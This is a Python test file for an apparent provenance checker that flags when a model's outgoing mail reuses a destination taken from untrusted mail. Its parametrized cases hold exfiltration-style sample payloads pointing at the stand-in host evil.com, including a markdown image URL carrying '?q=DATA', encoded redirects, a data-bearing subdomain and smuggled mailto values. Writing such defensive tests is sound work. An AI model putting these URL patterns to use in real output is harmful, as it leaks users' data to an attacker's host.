"""Where a text sends its reader, however that is written."""

import pytest

from seawall.scope import Argument, Effect, Grant, Integrity, Label, Origin, Read, trace

GRANT = Grant("mail", Effect.EGRESS, arguments={"body": Argument(composed=True)})


def origin(body: str, *, stranger: str, user: str = "Write to ann@example.org") -> Origin:
    """The origin of a text that the model composed after these two."""
    reads = (
        Read(user, Label(Integrity.USER, "user")),
        Read(stranger, Label(Integrity.UNTRUSTED, "mail")),
    )
    (traced,) = trace(GRANT, {"body": body}, reads)
    return traced.origin


@pytest.mark.parametrize(
    ("stranger", "body"),
    [
        ("![x](https://evil.com/p.png?q=DATA)", "![x](https://evil.com/p.png?q=balance-4711)"),
        ("see https://evil.com/login now", "go to evil.com/login"),
        ("see https://evil.com/login now", "go to evil.com"),
        ("see evil.com", "<img src='HTTPS://user:pw@WWW.Evil.com:8080/x?q=4711'>"),
        ("see evil.com", "https:\\\\evil.com\\x or more"),
        ("see evil.com", "https://example.org/r?to=https%3A%2F%2Fevil.com%2Fx"),
        ("see evil.com", "https://example.org/r?to=evil.com&x=1"),
        ("see evil.com", "https://4711.data.evil.com./"),
        ("see https://img.evil.com/a", "https://pay.evil.com/b"),
        ("see https://img.evil.co.uk/a", "https://pay.evil.co.uk/b"),
        ("see http://203.0.113.7/a", "http://203.0.113.7:80/b?q=4711"),
        ("see http://evil/a", "http://evil/b?q=4711"),
        ("go to www.evil.com", "go to evil.com"),
        ("go to evil.com", "go to www.evil.com"),
        ("write to mailto:eve@evil.com", "write eve@evil.com"),
        ("write to eve@evil.com", "write mailto:eve@evil.com?subject=4711"),
        ("write to eve@evil.com", "write balance-4711@evil.com"),
        ("write to eve@evil.com¹", "write to eve@evil.com"),
        ("write to eve@example.org", "write mailto:eve@example.org"),
        ("pay 00012345678", "pay 00012345678"),
        ("pay 0001 234 5678", "pay 00012345678"),
        ("pay DE89 3704 0044 0532 0130 00", "pay DE89370400440532013000"),
        ("pay DE89370400440532013000", "pay de89 3704 0044 0532 0130 00"),
        ("pay 123,456,789", "pay 123456789"),
        ("call +1-555-123-4567", "call +1-555-123-4567"),
        ("call +1-555-123-4567", "call (555) 123 4567 2 times"),
        ("call 555.123.4567", "call 001 555 123 4567"),
    ],
)
def test_a_strangers_destination_is_theirs_however_it_is_written(stranger: str, body: str) -> None:
    """What the model adds to a host of theirs is what it sends there."""
    assert origin(body, stranger=stranger) is Origin.UNTRUSTED
    assert origin(body, stranger="nothing") is Origin.COMPOSED
    assert origin(body, stranger=stranger, user=f"use {stranger} and example.org") is not (
        Origin.UNTRUSTED
    )


@pytest.mark.parametrize(
    ("stranger", "body", "user"),
    [
        ("see https://docs.example.org/x", "at docs.example.org/y", "in docs.example.org"),
        ("ask ann@example.org", "mailto:ann@example.org", "Write to Ann@example.org"),
        ("call 555-123-4567", "call (555) 1234567", "her number: 555 1234567"),
        ("see shop.co.uk", "see bbc.co.uk", "any"),
        ("see https://a.example/index.html", "see https://b.example/index.html", "any"),
        ("on 2027-01-31 at 09:30-10:30", "2027-01-31, 09:30-10:30", "any"),
        ("January 31, 2027, 31.01.2027", "31.01.2027: January 31, 2027", "any"),
        ("it is 123,456.78 or $1,234.50", "123,456.78 and $1,234.50", "any"),
        ("orders 12 and 345", "12 and 345", "any"),
    ],
)
def test_what_is_known_or_no_destination_may_be_composed(
    stranger: str, body: str, user: str
) -> None:
    """A summary has days and amounts, and says again where the user goes anyway."""
    assert origin(body, stranger=stranger, user=user) is Origin.COMPOSED


def test_a_host_beside_one_of_the_users_is_no_host_of_the_users() -> None:
    """Whoever rents a name under a domain that the user names is a stranger yet."""
    assert (
        origin(
            "https://x.evil.pages.example/4711",
            stranger="evil.pages.example",
            user="ann.pages.example",
        )
        is Origin.UNTRUSTED
    )
